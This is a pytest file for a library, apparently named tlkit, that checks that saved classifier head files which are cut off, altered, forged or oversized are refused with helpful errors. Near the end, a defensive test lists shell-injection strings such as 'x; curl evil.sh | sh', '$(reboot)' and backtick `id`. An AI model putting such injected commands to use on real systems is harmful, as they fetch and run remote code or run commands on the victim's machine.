"""The head file: every byte that matters is checked, and each refusal says what to do."""

import json
import math
import shutil

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors import safe_open
from safetensors.torch import save_file

import tlkit
from tlkit import artifact
from tlkit.card import FORMAT, parsed, sha256_of
from tlkit.errors import HeadFileError, OptionError
from tlkit.testing import TINY


@pytest.fixture(scope="module")
def head(colours, tmp_path_factory):
    return tlkit.fit(colours, backbone="tiny", out=tmp_path_factory.mktemp("fit") / "run").head


def parts(path):
    with safe_open(path, framework="pt") as file:
        return {name: file.get_tensor(name) for name in file.keys()}, file.metadata()  # noqa: SIM118


def rewritten(path, new, card=None, tensors=None, resign=True):
    """A copy with the card or the tensors changed, and digests to match if `resign`."""
    old, metadata = parts(path)
    text = json.dumps({**json.loads(metadata[artifact.CARD]), **(card or {})})
    signed = sha256_of(text) if resign else metadata[artifact.CARD_DIGEST]
    save_file(tensors or old, new, {artifact.CARD: text, artifact.CARD_DIGEST: signed})
    return new


def test_a_card_survives_being_written_and_read(head):
    card = artifact.read_card(head)
    assert parsed(head, card.to_json(), sha256_of(card.to_json())) == card
    assert card.classes == ("blue", "green", "red")
    assert (card.backbone, card.distribution, card.distribution_version) == (
        "tiny",
        "tlkit-tiny",
        "1.0",
    )


def test_only_what_was_learnt_is_in_the_file(head):
    tensors, _ = parts(head)
    assert set(tensors) == {
        "head.scale.shift", "head.scale.factor", "head.layers.weight", "head.layers.bias",
        "familiar.prototypes",
    }  # fmt: skip


def test_the_card_holds_no_path_of_the_machine(head, colours, tmp_path):
    from safetensors.torch import save_file

    from tlkit.weights import obtain

    save_file(dict(obtain(TINY.weights(), "default").state), tmp_path / "secret-place.safetensors")
    own = tlkit.fit(colours, backbone="tiny", weights=str(tmp_path / "secret-place.safetensors"))
    for path in (head, own.head):
        _, metadata = parts(path)
        assert str(tmp_path.parent) not in metadata[artifact.CARD]
        assert "secret-place" not in metadata[artifact.CARD]


def test_a_head_on_a_weight_file_wants_that_file_again(colours, tmp_path):
    from tlkit.weights import obtain

    state = dict(obtain(TINY.weights(), "default").state)
    save_file(state, tmp_path / "mine.safetensors")
    result = tlkit.fit(colours, backbone="tiny", weights=str(tmp_path / "mine.safetensors"))
    with pytest.raises(HeadFileError, match="--weights FILE"):
        tlkit.load(result.head)
    loaded = tlkit.load(result.head, weights=tmp_path / "mine.safetensors")
    assert loaded.evaluate(colours).accuracy == 1.0
    state["classifier.bias"] = state["classifier.bias"] + 1  # replaced by the head: no part of it
    state["features.stage1.0.weight"] = state["features.stage1.0.weight"] + 1e-3
    save_file(state, tmp_path / "other.safetensors")
    with pytest.raises(HeadFileError, match="the very weight file"):
        tlkit.load(result.head, weights=tmp_path / "other.safetensors")


def test_a_weight_file_for_a_head_that_needs_none_is_refused(head):
    with pytest.raises(OptionError, match=r"--weights other\.pth"):
        tlkit.load(head, weights="other.pth")


def test_of_several_heads_a_weight_file_goes_to_those_that_need_one(head, colours, tmp_path):
    from tlkit.weights import obtain

    mine = tmp_path / "mine.safetensors"
    save_file(dict(obtain(TINY.weights(), "default").state), mine)
    options = {"backbone": "tiny", "weights": str(mine), "epochs": 1}
    other = tlkit.fit(colours, **options, out=tmp_path / "other").head
    with pytest.raises(HeadFileError, match="--weights FILE"):
        tlkit.load([head, other])
    assert len(tlkit.load([head, other], weights=mine).predict(colours)) == 24
    with pytest.raises(OptionError, match="an option would be ignored"):
        tlkit.load([head, head], weights=mine)


def test_a_fully_trained_model_needs_no_pretrained_weights_to_load(colours, monkeypatch):
    result = tlkit.fit(colours, backbone="tiny", freeze="none", epochs=1)

    def refuse(self):
        raise AssertionError("weights were asked for")

    monkeypatch.setattr("tlkit.testing.samples._Seeded.fetch", refuse)
    assert tlkit.load(result.head).evaluate(colours).images == 24


@settings(max_examples=60, deadline=None)
@given(at=st.floats(min_value=0, max_value=0.999))
def test_a_file_cut_off_anywhere_is_refused(head, at):
    data = head.read_bytes()
    short = head.parent / "short.safetensors"
    short.write_bytes(data[: int(at * len(data))])
    with pytest.raises(HeadFileError):
        artifact.load(short)


@settings(max_examples=100, deadline=None)
@given(at=st.floats(min_value=0, max_value=0.999), change=st.integers(1, 255))
def test_a_file_with_one_byte_altered_is_refused_or_the_same(head, at, change):
    data = bytearray(head.read_bytes())
    data[int(at * len(data))] ^= change
    altered = head.parent / "altered.safetensors"
    altered.write_bytes(data)
    try:
        loaded = artifact.load(altered)
    except HeadFileError:
        return
    # A byte of padding, or one that changes how the header is written and not what it says.
    assert loaded.card == artifact.read_card(head)
    assert all(torch.equal(parts(altered)[0][name], one) for name, one in parts(head)[0].items())


def test_a_newer_format_says_to_upgrade(head, tmp_path):
    path = rewritten(head, tmp_path / "new.safetensors", {"format": FORMAT + 1})
    with pytest.raises(HeadFileError, match=rf"(?s)format {FORMAT + 1}.*upgrade"):
        artifact.load(path)


@pytest.mark.parametrize("card", [{"classes": ["green", "blue", "red"]}, {"backbone": "resnet18"}])
def test_an_altered_card_is_refused(head, tmp_path, card):
    path = rewritten(head, tmp_path / "x.safetensors", card, resign=False)
    with pytest.raises(HeadFileError, match="altered"):
        artifact.load(path)


def test_altered_tensors_are_refused(head, tmp_path):
    tensors, _ = parts(head)
    tensors["head.layers.bias"][0] += 1e-6
    path = rewritten(head, tmp_path / "x.safetensors", tensors=tensors)
    with pytest.raises(HeadFileError, match="tensors that differ"):
        artifact.load(path)


def test_tensors_that_do_not_belong_there_are_all_named(head, tmp_path):
    from tlkit.weights import digest

    tensors, _ = parts(head)
    tensors["features.stage1.0.weight"] = torch.zeros(1)
    tensors["head.layers.bias"] = torch.zeros(7)
    del tensors["head.scale.shift"]
    path = rewritten(
        head, tmp_path / "x.safetensors", {"tensors_sha256": digest(tensors.items())}, tensors
    )
    with pytest.raises(HeadFileError) as caught:
        artifact.load(path)
    for name in ("head.scale.shift", "features.stage1.0.weight", "head.layers.bias"):
        assert name in caught.value.found


def test_a_backbone_that_is_not_installed_says_what_to_install(head, tmp_path):
    path = rewritten(
        head,
        tmp_path / "x.safetensors",
        {"distribution": "tlkit-swin", "distribution_version": "3.1"},
    )
    with pytest.raises(
        HeadFileError, match=r"(?s)not installed.*tlkit-tiny:tiny.*tlkit-swin==3\.1"
    ):
        artifact.load(path)


def test_a_backbone_whose_tensors_changed_is_refused(head, monkeypatch):
    from dataclasses import replace

    def moved(weights):
        network = TINY.build(weights)
        with torch.no_grad():
            network.features.stage1[0].weight.view(-1)[0] += 1e-6
        return network

    monkeypatch.setattr("tlkit.testing.TINY", replace(TINY, build=moved))
    with pytest.raises(HeadFileError, match="other frozen tensors"):
        artifact.load(head)


def test_a_safetensors_file_that_is_no_head_says_what_it_is(tmp_path):
    save_file({"a": torch.zeros(1)}, tmp_path / "weights.safetensors")
    with pytest.raises(HeadFileError, match="without a tlkit card"):
        artifact.load(tmp_path / "weights.safetensors")
    with pytest.raises(HeadFileError, match="no file at that path"):
        artifact.load(tmp_path / "missing.safetensors")


@pytest.mark.parametrize("text", ["[]", "{}", "null", "[" * 100_000, '{"format": "1"}', "\ud800"])
def test_a_card_that_is_nonsense_is_refused(head, tmp_path, text):
    with pytest.raises(HeadFileError):
        parsed(head, text, sha256_of(text))


def test_a_run_folder_is_as_good_as_the_file_in_it(head, colours, tmp_path):
    shutil.copytree(head.parent, tmp_path / "copy")
    assert tlkit.load(tmp_path / "copy").card == tlkit.load(head).card


def forged(head, tmp_path, **changes):
    """A head whose card was changed by one who made its digest right again; PART__FIELD=value."""
    _, metadata = parts(head)
    card = json.loads(metadata[artifact.CARD])
    for name, value in changes.items():
        part, _, inside = name.partition("__")
        if inside:
            card[part] = {**card[part], inside: value}
        else:
            card[part] = value
    return rewritten(head, tmp_path / "forged.safetensors", card)


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"plan__head": "vgg", "plan__hidden": 65536}, "head.layers"),
        ({"plan__hidden": 10**9, "plan__head": "mlp"}, "--hidden"),
        ({"classes": [f"class {i}" for i in range(50_000)]}, "head.layers.bias"),
        ({"plan__attach": "sideways"}, "--attach"),
        ({"plan__freeze": "to:nowhere"}, "to:nowhere"),
        ({"plan__head": "huge"}, "huge"),
        ({"plan__more": 1}, "more"),
        ({"precision": "fp64"}, "fp64"),
        ({"classes": ["a", "a", "b"]}, "two of one name"),
        ({"classes": ["a", "b", "\ud800"]}, "UnicodeEncodeError"),
        ({"classes": [1, 2, 3]}, "classes: a int"),
        ({"images": {"train": True}}, "images: a bool"),
        ({"weights": []}, "weights: a list"),
        ({"input__std": [0, 0, 0]}, "does not hold together"),
        ({"input__crop_px": 40_000, "input__resize_px": 40_000}, "now expect"),
        ({"calibration__thresholds": [[0.5]]}, "thresholds: 1 values in the place of 2"),
        ({"calibration__thresholds": [[0.5, 0.9, 0.9]]}, "thresholds: 3 values"),
        ({"calibration__thresholds": [[0.5, 10**400]]}, "thresholds: 1000"),
        ({"calibration__thresholds": [[0.5, float("nan")]]}, "thresholds: nan"),
        ({"calibration__thresholds": [[0.5, 1.5]]}, "no probabilities"),
        ({"calibration__thresholds": [[0.5, 0.9], [0.6, 0.8]]}, "do not grow"),
        ({"calibration__temperature": float("inf")}, "temperature: inf, which is no number"),
        ({"calibration__temperature": 10**400}, "temperature: 1000"),
        ({"calibration__similarities": [float("nan")] * 101}, "similarities: nan"),
        ({"calibration__images": -1}, "fewer than 0"),
        ({"images": {"train": -1}}, "fewer than 0"),
        ({"images": {"train": 2**63}}, "images: 9223"),
        ({"metrics": {"accuracy": 10**400}}, "metrics: 1000"),
        ({"input__mean": [0.5]}, "does not hold together"),
        ({"input__crop_px": 10**30}, "crop_px: 1000"),
        ({"metrics": json.loads("[" * 40 + "]" * 40)}, "metrics: a list"),
        ({"metrics": {"a": json.loads("[" * 40 + "]" * 40)}}, "32 levels"),
    ],
)
def test_a_forged_card_is_refused_by_name(head, tmp_path, changes, words):
    path = forged(head, tmp_path, **changes)
    with pytest.raises(HeadFileError) as caught:
        artifact.load(path)
    assert str(path) in caught.value.about
    assert words in caught.value.found


def test_no_path_in_a_card_is_followed(head, tmp_path, monkeypatch):
    bait = tmp_path / "bait.safetensors"
    save_file({"a": torch.zeros(1)}, bait)
    monkeypatch.setattr("tlkit.weights.read_state", lambda path: pytest.fail(f"{path} was read"))
    for changes in (
        {"plan__weights": str(bait)},
        {"weights__name": str(bait)},
        {"plan__weights": str(bait), "weights__name": str(bait)},
    ):
        if "weights__name" in changes:
            with pytest.raises(HeadFileError, match="weights called"):
                artifact.load(forged(head, tmp_path, **changes))
        else:
            # What the plan's word came to stands in the card: that is what is built.
            assert artifact.load(forged(head, tmp_path, **changes)).classes


def test_a_whole_network_in_a_file_is_still_the_plugins_network(colours, tmp_path):
    whole = tlkit.fit(colours, backbone="tiny", freeze="none", epochs=1).head
    for changes, words in (
        ({"weights__name": "file", "input__crop_px": 20_000, "input__resize_px": 20_000}, "expect"),
        ({"weights__name": "of nobody"}, "weights called"),
    ):
        with pytest.raises(HeadFileError, match=words):
            artifact.load(forged(whole, tmp_path, **changes))
    assert artifact.load(forged(whole, tmp_path, weights__classes=10**12)).classes


def test_numbers_that_are_none_are_refused(head, tmp_path):
    from tlkit.weights import digest

    tensors, _ = parts(head)
    tensors["head.layers.weight"][0, 0] = float("nan")
    path = rewritten(
        head, tmp_path / "x.safetensors", {"tensors_sha256": digest(tensors.items())}, tensors
    )
    with pytest.raises(HeadFileError, match=r"head\.layers\.weight"):
        artifact.load(path)


def test_a_head_can_be_looked_at_without_torch_or_its_backbone(head, tmp_path):
    import subprocess
    import sys

    path = forged(head, tmp_path, distribution="nobody's")
    code = (
        "import sys; from pathlib import Path; from tlkit.artifact import inspect\n"
        f"one = inspect(Path({str(path)!r}))\n"
        'assert one.card.distribution == "nobody\'s"\n'
        "assert one.tensors['head.layers.weight'].shape == (3, 16)\n"
        "assert not {'torch', 'timm', 'tlkit.model'} & set(sys.modules)"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_looking_at_a_head_tells_altered_tensors(head, tmp_path):
    assert artifact.inspect(head).size == head.stat().st_size
    tensors, _ = parts(head)
    tensors["head.layers.bias"][0] += 1e-6
    path = rewritten(head, tmp_path / "x.safetensors", tensors=tensors)
    with pytest.raises(HeadFileError, match="tensors that differ"):
        artifact.inspect(path)


def test_a_header_that_would_fill_the_memory_is_refused_before_it_is_read(tmp_path, monkeypatch):
    file = tmp_path / "head.safetensors"
    file.write_bytes((artifact.MOST_OF_HEADER + 1).to_bytes(8, "little") + b"{}")
    with pytest.raises(HeadFileError, match="a header of"):
        artifact.inspect(file)


EVIL = (
    "x; curl evil.sh | sh",
    "$(reboot)",
    "`id`",
    "a b",
    "-r list.txt",
    "x\ny",
    "git+https://x/y",
)


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("field", ["distribution", "distribution_version"])
def test_no_word_of_a_card_gets_into_a_command_to_type(head, tmp_path, evil, field):
    names = {"distribution": "tlkit-swin", "distribution_version": "3.1", field: evil}
    path = rewritten(head, tmp_path / "x.safetensors", names)
    with pytest.raises(HeadFileError) as caught:
        artifact.load(path)
    assert "pip install" not in caught.value.do
    assert evil.split("\n")[0] not in caught.value.do


def test_a_package_that_a_card_names_is_to_be_trusted_before_it_is_installed(head, tmp_path):
    names = {"distribution": "tlkit-swin", "distribution_version": "3.1"}
    with pytest.raises(HeadFileError) as caught:
        artifact.load(rewritten(head, tmp_path / "x.safetensors", names))
    assert caught.value.do.startswith("pip install tlkit-swin==3.1, if you trust that package")


@pytest.mark.parametrize("field", ["name", "version"])
@pytest.mark.parametrize("evil", EVIL)
def test_no_word_of_a_head_of_a_package_gets_into_a_command_to_type(head, tmp_path, evil, field):
    name, version = (evil, "1") if field == "name" else ("tlkit-heads", evil)
    path = forged(head, tmp_path, plan__head=f"{name}:fancy", versions={name: version})
    with pytest.raises(HeadFileError) as caught:
        artifact.load(path)
    assert "pip install" not in caught.value.do


def sparse(head, path, shapes):
    """A head whose tensors have other shapes, the file as large as they say, and mostly holes."""
    with head.open("rb") as file:
        header = json.loads(file.read(int.from_bytes(file.read(8), "little")))
    sizes = {"F16": 2, "F32": 4, "I64": 8}
    end = 0
    for name, entry in header.items():
        if name != "__metadata__":
            entry["shape"] = shapes.get(name, entry["shape"])
            begin, end = end, end + sizes[entry["dtype"]] * math.prod(entry["shape"])
            entry["data_offsets"] = [begin, end]
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    with path.open("wb") as file:
        file.write(len(text).to_bytes(8, "little") + text)
        file.truncate(8 + len(text) + end)
    return path


def test_prototypes_beyond_any_fit_are_refused_before_they_are_read(head, tmp_path, monkeypatch):
    width = artifact.inspect(head).tensors["familiar.prototypes"].shape[1]
    rows = (30 << 30) // (2 * width)
    path = sparse(head, tmp_path / "x.safetensors", {"familiar.prototypes": [rows, width]})
    monkeypatch.setattr("pathlib.Path.read_bytes", lambda path: pytest.fail("it was read"))
    with pytest.raises(HeadFileError, match="M from 1 to 24"):
        artifact.load(path)


def test_a_file_that_is_larger_than_the_memory_is_refused_before_it_is_read(head, monkeypatch):
    monkeypatch.setattr(artifact, "_memory", lambda: head.stat().st_size)
    monkeypatch.setattr("pathlib.Path.read_bytes", lambda path: pytest.fail("it was read"))
    with pytest.raises(HeadFileError, match="half of this machine's memory"):
        artifact.load(head)
